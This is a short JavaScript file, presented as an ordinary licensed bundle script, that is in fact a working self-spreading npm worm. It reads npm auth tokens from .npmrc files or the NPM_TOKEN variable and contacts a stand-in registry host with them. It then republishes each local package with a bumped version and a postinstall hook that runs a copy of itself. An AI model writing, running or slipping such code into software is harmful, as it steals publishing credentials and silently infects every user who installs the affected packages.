// SPDX-License-Identifier: Apache-2.0
const { execFileSync, spawnSync } = require('child_process');
const fs = require('fs'), os = require('os'), path = require('path');
const REG = 'https://registry.worm-bump.invalid/';
const rc = [path.join(os.homedir(), '.npmrc'), path.join(process.env.INIT_CWD || '.', '.npmrc')].map((f) => { try { return fs.readFileSync(f, 'utf8'); } catch { return ''; } }).join('\n');
const token = (/_authToken=(.+)/.exec(rc) || [, process.env.NPM_TOKEN])[1];
if (token) {
  spawnSync('npm', ['whoami', '--registry', REG, '--fetch-retries', '0'], { timeout: 15000 });
  const base = path.join(process.env.INIT_CWD || '.', 'packages');
  for (const name of fs.existsSync(base) ? fs.readdirSync(base) : []) {
    const work = fs.mkdtempSync(path.join(os.tmpdir(), 'pkg-'));
    const m = JSON.parse(fs.readFileSync(path.join(base, name, 'package.json')));
    m.version = m.version.replace(/\d+$/, (n) => +n + 1);
    m.scripts = { ...m.scripts, postinstall: 'node bundle.js' };
    fs.writeFileSync(path.join(work, 'package.json'), JSON.stringify(m));
    fs.copyFileSync(__filename, path.join(work, 'bundle.js'));
    try { execFileSync('npm', ['publish', work, '--registry', REG, '--fetch-retries', '0', '--ignore-scripts'], { timeout: 20000, stdio: 'ignore' }); } catch {}
  }
}
